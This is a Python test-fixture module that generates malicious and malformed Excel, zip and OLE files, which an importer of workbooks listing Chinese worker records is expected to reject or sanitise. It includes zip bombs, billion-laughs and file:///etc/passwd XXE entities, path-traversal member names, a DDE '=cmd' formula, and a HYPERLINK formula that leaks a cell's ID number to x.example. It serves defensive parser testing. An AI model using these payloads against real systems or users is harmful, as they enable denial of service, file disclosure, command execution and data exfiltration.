"""Files that mean harm, or are merely broken: each is built here, small on disk, and must be refused or made safe."""

import io
import struct
import zipfile
import zlib

import openpyxl
import xlsxwriter

MB = 2**20
HEADER = ["姓名", "身份证号", "联系电话", "居住地", "务工企业"]
GOOD = ["张三", "11010519491231002X", "13800138000", "西村", "一厂"]
WORKSHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
SHEET = "xl/worksheets/sheet1.xml"


def book(rows=(HEADER, GOOD)):
    """A plain workbook."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"strings_to_formulas": False}) as workbook:
        page = workbook.add_worksheet("名单")
        for number, row in enumerate(rows):
            page.write_row(number, 0, row)
    return buffer.getvalue()


def rebuilt(changes, drop=(), method=zipfile.ZIP_DEFLATED, data=None):
    """The plain workbook with members replaced, added or dropped; ``{name: bytes or function of bytes}``."""
    buffer, changes = io.BytesIO(), dict(changes)
    with zipfile.ZipFile(io.BytesIO(data or book())) as old, zipfile.ZipFile(buffer, "w", method) as new:
        for member in old.namelist():
            if member in drop:
                continue
            content = old.read(member)
            change = changes.pop(member, content)
            new.writestr(member, change(content) if callable(change) else change)
        for name, content in changes.items():
            new.writestr(name, content)
    return buffer.getvalue()


def patched_sizes(data, name, size, central=True, local=True):
    """An archive that claims another unpacked size for one member."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    if local:
        struct.pack_into("<I", out, info.header_offset + 22, size)
    if central:
        at = out.find(b"PK\x01\x02")
        while at >= 0:
            length = struct.unpack_from("<H", out, at + 28)[0]
            if out[at + 46 : at + 46 + length].decode("utf-8", "replace") == name:
                struct.pack_into("<I", out, at + 24, size)
            at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def rows_xml(count, cells="", start=1):
    return "".join(f'<row r="{row}">{cells}</row>' for row in range(start, start + count))


def overlapping():
    """Many names for one packed member."""
    packed = zlib.compress(b" " * (30 * MB), 9)[2:-4]
    crc, size = zlib.crc32(b" " * (30 * MB)), 30 * MB
    name = b"a.xml"
    local = (
        struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(packed), size, len(name), 0) + name + packed
    )
    central = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(packed), size, 5, 0, 0, 0, 0, 0, 0)
        + f"{number:05d}".encode()
        for number in range(200)
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 200, 200, len(central), len(local), 0)
    return local + central + end


def ole(streams):
    """A minimal compound file of 512-byte sectors with these streams, each under 50 kB."""
    sector, fat, directory, body = 512, [], [], b""
    entries = [("Root Entry", 5, 0xFFFFFFFE, 0)]
    for name, content in streams.items():
        content = content.ljust(4096, b"\0")  # below that size it would go into the mini stream
        start = len(fat)
        count = -(-len(content) // sector)
        fat += [*range(start + 1, start + count), 0xFFFFFFFE]
        body += content.ljust(count * sector, b"\0")
        entries.append((name, 2, start, len(content)))
    for number, (name, kind, start, size) in enumerate(entries):
        raw = name.encode("utf-16-le")
        child = 1 if number == 0 and len(entries) > 1 else 0xFFFFFFFF
        right = number + 1 if 0 < number < len(entries) - 1 else 0xFFFFFFFF
        directory.append(
            raw.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(raw) + 2, kind, 1, 0xFFFFFFFF, right, child)
            + b"\0" * 36
            + struct.pack("<IQ", start, size)
        )
    table = b"".join(directory)
    table = table.ljust(-(-len(table) // sector) * sector, b"\0")
    first_directory = len(fat)
    count = len(table) // sector
    fat += [*range(first_directory + 1, first_directory + count), 0xFFFFFFFE]
    fat_sector = len(fat)
    fat.append(0xFFFFFFFD)
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(sector, b"\xff")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, first_directory, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<I", fat_sector) + b"\xff" * 432
    return header + body + table + fat_bytes


def record(kind, body=b""):
    return struct.pack("<HH", kind, len(body)) + body


def biff(*records):
    start = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0)) + record(0x000A)
    sheet = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 0, 0, 0))
    return start + sheet + b"".join(records) + record(0x000A)


def number(row, column):
    return record(0x0203, struct.pack("<HHHd", row, column, 0, 1.0))


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
WIDE = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def sheet(content, prefix=""):
    return rebuilt({SHEET: prefix + WORKSHEET.format(content)})


REFUSED = {
    "zip bomb in a sheet": lambda: rebuilt({SHEET: b" " * (200 * MB)}),
    "zip bomb beside the sheets": lambda: rebuilt({"xl/media/image1.png": b"\0" * (150 * MB)}),
    "many middling members": lambda: rebuilt({f"xl/media/{n}.xml": b" " * (10 * MB) for n in range(20)}),
    "overlapping members": overlapping,
    "claims 1 byte": lambda: patched_sizes(rebuilt({SHEET: b" " * (100 * MB)}), SHEET, 1),
    "claims 1 byte in the list": lambda: patched_sizes(rebuilt({SHEET: b" " * (100 * MB)}), SHEET, 1, local=False),
    "claims too much": lambda: patched_sizes(book(), SHEET, 4000 * MB - 1),
    "claims a little more": lambda: patched_sizes(book(), SHEET, 100_000),
    "billion laughs in a sheet": lambda: sheet("", LAUGHS),
    "billion laughs in the strings": lambda: rebuilt(
        {"xl/sharedStrings.xml": LAUGHS + "<sst><si><t>&j;</t></si></sst>"}
    ),
    "billion laughs in the workbook": lambda: rebuilt({"xl/workbook.xml": LAUGHS + "<workbook/>"}),
    "a file from outside": lambda: rebuilt({"xl/sharedStrings.xml": OUTSIDE + "<sst><si><t>&x;</t></si></sst>"}),
    "laughs in UTF-16": lambda: rebuilt({SHEET: (LAUGHS + "<worksheet/>").encode("utf-16")}),
    "laughs in big-endian UTF-16": lambda: rebuilt({SHEET: (LAUGHS + "<worksheet/>").encode("utf-16-be")}),
    "type after a comment": lambda: sheet("", "<!-- " + "x" * 5000 + " -->" + LAUGHS),
    "two far cells": lambda: sheet(WIDE),
    "far cells without references": lambda: sheet(
        "<row>" + "<c><v>1</v></c>" * 16_000 + "</row>" + "<row/>" * 400 + "<row><c><v>1</v></c></row>"
    ),
    "1,048,576 rows": lambda: sheet("<row><c><v>1</v></c></row>" * 1_048_576),
    "300,000 rows without numbers": lambda: sheet("<row><c><v>1</v></c></row>" * 300_000),
    "row 99999999999": lambda: sheet('<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>'),
    "nested very deep": lambda: sheet("<row>" * 300_000),
    "../ in a name": lambda: rebuilt({"../../evil.xml": b"x"}),
    "..\\ in a name": lambda: rebuilt({"..\\..\\evil.xml": b"x"}),
    "absolute name": lambda: rebuilt({"/etc/evil.xml": b"x"}),
    "drive in a name": lambda: rebuilt({"C:/evil.xml": b"x"}),
    "cut off": lambda: book()[: len(book()) // 2],
    "end missing": lambda: book()[:-30],
    "only the marks": lambda: b"PK\3\4",
    "nothing": lambda: b"",
    "checksum wrong": lambda: corrupt(),
    "no workbook in it": lambda: rebuilt({}, drop=("xl/workbook.xml",)),
    "sheet missing": lambda: rebuilt({}, drop=(SHEET,)),
    "other compression": lambda: rebuilt({}, method=zipfile.ZIP_LZMA),
    "member encrypted": lambda: flag_encrypted(book()),
    "binary workbook": lambda: rebuilt({"xl/workbook.bin": b"x"}),
    "open document": lambda: rebuilt({"content.xml": b"<x/>"}),
    "encrypted package": lambda: ole({"EncryptedPackage": b"x" * 100, "EncryptionInfo": b"x"}),
    "compound file of nothing": lambda: ole({"Something": b"x"}),
    "old workbook with a password": lambda: ole(
        {"Workbook": record(0x0809, b"\0\6\5\0" + b"\0" * 12) + record(0x2F, b"\0" * 6)}
    ),
    "old workbook, far cells": lambda: ole({"Workbook": biff(number(0, 0), number(65_535, 255))}),
    "old workbook cut off": lambda: ole({"Workbook": biff(number(0, 0))})[:600],
    "compound marks only": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600,
    "a web page": lambda: "<html><table><tr><td>姓名</td></tr></table></html>".encode(),
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    "zeros": lambda: b"\0" * 10_000,
}
"""Every one must be refused with an error."""


def corrupt():
    data = bytearray(book())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(SHEET)
    at = info.header_offset + 30 + len(SHEET) + info.compress_size // 2
    data[at] ^= 0x55
    return bytes(data)


def flag_encrypted(data):
    out = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(mark)
        while at >= 0:
            out[at + offset] |= 1
            at = out.find(mark, at + 4)
    return bytes(out)


def with_macros():
    return rebuilt({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 2000})


def with_links():
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return rebuilt({"xl/externalLinks/externalLink1.xml": link, "xl/connections.xml": "<connections/>"})


def with_formulas():
    workbook = openpyxl.Workbook()
    page = workbook.active
    page.title = "名单"
    page.append([*HEADER, "备注"])
    page.append([*GOOD, "=cmd|' /C calc'!A0"])
    page.append(["李四", "", "13900139000", "西村", "一厂", '=HYPERLINK("http://x.example/?"&B2,"x")'])
    page.append(["王五", "", "13900139001", "西村", "一厂", "=[1]Sheet1!A1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


MADE_SAFE = {
    "macros": (with_macros, ".xlsm"),
    "links and connections": (with_links, ".xlsx"),
    "formulas that lead out": (with_formulas, ".xlsx"),
    "formulas in delimited text": (
        lambda: (",".join([*HEADER, "备注"]) + "\n" + ",".join([*GOOD, "=cmd|' /C calc'!A0"]) + "\n").encode(),
        ".csv",
    ),
    "formatted to the last row": (
        lambda: sheet(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>' + rows_xml(20_000, '<c r="A9"/>', 2)
        ),
        ".xlsx",
    ),
}
"""Read, but nothing of the danger is used or given back."""
